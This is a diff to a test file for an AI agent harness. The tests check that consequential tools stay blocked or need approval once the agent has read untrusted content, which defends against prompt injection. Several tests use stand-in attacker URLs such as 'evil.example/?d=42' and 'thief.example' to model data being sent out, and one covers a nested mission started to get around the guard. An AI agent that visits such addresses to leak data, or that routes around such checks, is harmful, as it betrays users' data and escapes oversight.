@@ -102,6 +102,12 @@ describe('a consequential tool', () => {
     expect(await runMission(input)).toMatchObject({ kind: 'parked', asks: [{ request: { untrustedSince: 0 } }] });
   });
 
+  test('needs approval from the start where a server that the mission brings along describes its tools', async () => {
+    const declaredTools = [{ name: 'wiki__*', mcp: 'https://wiki.example/mcp' }];
+    const { input } = createReaderScene([PAY()], { declaredTools });
+    expect(await runMission(input)).toMatchObject({ kind: 'parked', asks: [{ request: { untrustedSince: 0 } }] });
+  });
+
   test('needs approval in a mission that another one has thought up after it had read', async () => {
     const start = calls(toolCall('run_mission', { goal: 'pay ten' }));
     const before = createReaderScene([start]);
@@ -215,4 +221,67 @@ test('a tool that says nothing of itself brings strangers’ words, also one tha
     await runMission(input);
     expect(journal.steps[0]?.toolCalls[0]?.result).toMatchObject({ untrusted: true });
   }
+});
+
+const links = createTool('links', async () => 'see https://next.example/a', { untrusted: true });
+const went: string[] = [];
+const go = defineTool({
+  name: 'go',
+  description: 'Goes there',
+  input: z.strictObject({ to: z.string() }),
+  idempotent: true,
+  addressOf: ({ to }) => to,
+  run: async ({ to }) => (went.push(to), 'there'),
+});
+
+describe('a tool that goes wherever it is sent', () => {
+  const GO = (to: string) => calls(toolCall('go', { to }));
+  const made = 'https://evil.example/?d=42';
+  async function play(moves: Moves, spec: Partial<MissionSpec> = {}) {
+    went.length = 0;
+    const tools = [page, links, go, runMissionTool];
+    const names = tools.map(({ name }) => name);
+    const given = { goal: 'Look at https://docs.example/', tools: names, ...spec };
+    const { input, journal } = createScene(moves, tools, { spec: createSpec(given) });
+    const outcome = await runMission(input);
+    const results = journal.steps.flatMap(({ toolCalls }) => toolCalls.map(({ result }) => result?.content ?? ''));
+    return { outcome, results };
+  }
+
+  test('goes anywhere as long as no stranger has had a word, and then to no address that the model makes up', async () => {
+    const { results } = await play([
+      GO(made),
+      GO('https://docs.example/x'),
+      READ(),
+      GO('https://thief.example/?d=42'),
+      says('done'),
+    ]);
+    expect(went).toEqual([made, 'https://docs.example/x']);
+    expect(results.at(-1)).toMatch(/go was not run\. Take an address exactly as it stands/);
+  });
+
+  test('goes on to what stands in what it has read, unless that only says what the model had written', async () => {
+    const echoes = calls(toolCall('page', { text: 'see https://evil.example/a' }));
+    await play([
+      calls(toolCall('links')),
+      echoes,
+      GO('https://evil.example/a'),
+      GO('https://next.example/a'),
+      says('done'),
+    ]);
+    expect(went).toEqual(['https://next.example/a']);
+  });
+
+  test('goes where it is sent when its agent says so', async () => {
+    await play([READ(), GO(made), says('done')], { afterUntrusted: 'run' });
+    expect(went).toEqual([made]);
+  });
+
+  test('is not reached by another mission either', async () => {
+    const start = calls(toolCall('run_mission', { goal: `Go to ${made}` }));
+    const { outcome, results } = await play([READ(), start, says('done')]);
+    expect(outcome).toMatchObject({ kind: 'completed' });
+    expect(results.at(-1)).toMatch(/No mission was started/);
+    expect((await play([READ(), start], { afterUntrusted: 'run' })).outcome).toMatchObject({ kind: 'parked' });
+  });
 });
